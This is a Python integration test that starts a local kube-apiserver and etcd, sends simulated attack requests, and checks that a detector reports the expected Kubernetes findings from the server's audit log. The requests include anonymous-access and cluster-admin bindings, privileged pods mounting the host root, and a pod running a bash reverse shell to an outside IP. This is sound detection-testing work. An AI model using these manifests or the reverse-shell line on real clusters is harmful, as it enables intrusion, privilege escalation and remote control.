"""A real API server is asked, and the audit log that it writes itself is read.

``kube-apiserver`` and ``etcd`` are taken from the PATH. Debian has etcd (``etcd-server``), and Kubernetes' source, of
which ``go build ./cmd/kube-apiserver`` makes the server; what is written was tried with its version 1.20.2.
"""

from __future__ import annotations

import json
import shutil
import socket
import ssl
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.playing import known_in, play

pytestmark = [pytest.mark.long, pytest.mark.skipif(
    not (shutil.which("kube-apiserver") and shutil.which("etcd")), reason="there is no kube-apiserver and etcd here")]

POLICY = {
    "apiVersion": "audit.k8s.io/v1", "kind": "Policy", "omitStages": ["RequestReceived"], "rules": [
        {"level": "None", "nonResourceURLs": ["/healthz*", "/swagger*", "/version"]},
        {"level": "Metadata", "resources": [{"group": "", "resources": ["secrets", "configmaps"]}]},
        {"level": "Request", "verbs": ["get", "list", "watch"]}, {"level": "RequestResponse"}]}
"""As EKS has it: no bodies of secrets, requests of what only looks, both of what changes."""
TOKENS = ('ann,ann,1,"system:masters"\n'
          'web,system:serviceaccount:shop:web,2,"system:serviceaccounts,system:serviceaccounts:shop"\n')
WITHIN = 90.0


class Server:
    """An API server that answers."""

    def __init__(self, folder: Path, port: int) -> None:
        self.log = folder / "audit.log"
        self._url = f"https://127.0.0.1:{port}"
        self._trust = ssl.create_default_context()
        self._trust.check_hostname, self._trust.verify_mode = False, ssl.CERT_NONE

    def asks(self, who: str, method: str, path: str, body: Any = None, *, patch: str = "application/json") -> int:
        """The answer's status."""
        request = urllib.request.Request(
            self._url + path, method=method, data=None if body is None else json.dumps(body).encode(),
            headers={"Content-Type": patch} | ({"Authorization": f"Bearer {who}"} if who else {}))
        try:
            with urllib.request.urlopen(request, context=self._trust, timeout=20) as answer:
                return int(answer.status)
        except urllib.error.HTTPError as error:
            return error.code

    def answers(self) -> bool:
        """It is up."""
        try:
            return self.asks("ann", "GET", "/api/v1/namespaces/kube-system") == 200
        except OSError:
            return False


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("cluster")
    store, peers, port = _free(), _free(), _free()
    (folder / "policy.json").write_text(json.dumps(POLICY))
    (folder / "tokens.csv").write_text(TOKENS)
    subprocess.run(["openssl", "genrsa", "-out", str(folder / "key.pem"), "2048"], check=True, capture_output=True)
    etcd = f"http://127.0.0.1:{store}"
    commands = (
        ["etcd", "--data-dir", str(folder / "etcd"), "--listen-client-urls", etcd, "--advertise-client-urls", etcd,
         "--listen-peer-urls", f"http://127.0.0.1:{peers}"],
        ["kube-apiserver", "--etcd-servers", etcd, "--secure-port", str(port), "--bind-address", "127.0.0.1",
         "--cert-dir", str(folder / "certs"), "--service-account-issuer", "https://kubernetes.default.svc",
         "--service-account-key-file", str(folder / "key.pem"), "--authorization-mode", "RBAC",
         "--service-account-signing-key-file", str(folder / "key.pem"), "--allow-privileged=true",
         "--token-auth-file", str(folder / "tokens.csv"), "--audit-policy-file", str(folder / "policy.json"),
         "--audit-log-path", str(folder / "audit.log"), "--disable-admission-plugins", "ServiceAccount"])
    running = [subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for command in commands]
    try:
        made, until = Server(folder, port), time.monotonic() + WITHIN
        while not made.answers():
            assert time.monotonic() < until, "it does not answer"
            time.sleep(0.3)
        yield made
    finally:
        for process in reversed(running):
            process.kill()
            process.wait()


def _free() -> int:
    with socket.socket() as one:
        one.bind(("127.0.0.1", 0))
        return int(one.getsockname()[1])


def _pod(name: str, image: str, *, disk: bool = False, command: str = "") -> dict[str, Any]:
    container: dict[str, Any] = {"name": "main", "image": image}
    if disk:
        container |= {"securityContext": {"privileged": True}, "volumeMounts": [{"name": "d", "mountPath": "/host"}]}
    if command:
        container["command"] = ["bash", "-c", command]
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": {
        "containers": [container], "volumes": [{"name": "d", "hostPath": {"path": "/"}}] if disk else []}}


def _binding(name: str, role: str, subject: dict[str, str]) -> dict[str, Any]:
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": [subject]}


def test_what_a_real_server_writes_is_told(server: Server, tmp_path: Path) -> None:
    bindings, pods = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "/api/v1/namespaces/shop/pods"
    asked = [
        server.asks("ann", "POST", "/api/v1/namespaces", {
            "apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop"}}),
        # Nobody is turned down, and then let in.
        server.asks("", "GET", "/api/v1/pods"),
        server.asks("ann", "POST", bindings, _binding("open", "system:node", {
            "kind": "User", "name": "system:anonymous", "apiGroup": "rbac.authorization.k8s.io"})),
        server.asks("ann", "POST", bindings, _binding("default", "cluster-admin", {
            "kind": "ServiceAccount", "name": "default", "namespace": "shop"})),
        server.asks("web", "GET", "/api/v1/namespaces/shop/secrets"),
        # A dry run makes nothing; the server is told twice to make what has the node.
        server.asks("ann", "POST", f"{pods}?dryRun=All", _pod("dry", "dry", disk=True)),
        server.asks("web", "POST", pods, _pod("forbidden", "forbidden", disk=True)),
        server.asks("ann", "POST", pods, _pod("grabs", "alpine:3", disk=True)),
        server.asks("ann", "POST", pods, _pod("again", "alpine:3.20", disk=True)),
        server.asks("ann", "POST", pods, _pod("shell", "ubuntu", command="bash -i >& /dev/tcp/9.9.9.9/4444 0>&1")),
        server.asks("ann", "POST", pods, _pod("plain", "nginx")),
        server.asks("ann", "PATCH", f"{pods}/plain", {"metadata": {"labels": {"a": "b"}}},
                    patch="application/merge-patch+json"),
        server.asks("ann", "POST", "/api/v1/namespaces/shop/services", {
            "apiVersion": "v1", "kind": "Service", "metadata": {"name": "kubernetes-dashboard"},
            "spec": {"type": "LoadBalancer", "ports": [{"port": 443}]}}),
        server.asks("ann", "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", {
            "apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview",
            "spec": {"resourceAttributes": {"verb": "get", "resource": "secrets"}}}),
    ]
    assert asked == [201, 403, 201, 201, 403, 201, 403, 201, 201, 201, 201, 200, 201, 201]
    until = time.monotonic() + WITHIN
    while server.asks("", "GET", "/api/v1/pods") != 200:  # what was granted takes a moment
        assert time.monotonic() < until
        time.sleep(0.2)

    (tmp_path / "logs").mkdir()
    shutil.copy(server.log, tmp_path / "logs" / "audit.json")
    played = play(tmp_path / "logs", known_in(tmp_path))
    assert played.summary.dead == 0
    assert played.types == [
        "Discovery:Kubernetes/SuccessfulAnonymousAccess", "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
        "Persistence:Kubernetes/ContainerWithSensitiveMount", "Policy:Kubernetes/AdminAccessToDefaultServiceAccount",
        "Policy:Kubernetes/AnonymousAccessGranted", "Policy:Kubernetes/ExposedDashboard",
        "PrivilegeEscalation:Kubernetes/PrivilegedContainer"]
    (grabs,) = played.of("PrivilegeEscalation:Kubernetes/PrivilegedContainer")
    workload = grabs["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"]
    assert workload["name"] == "grabs"
    assert workload["containers"][0]["securityContext"]["privileged"] is True
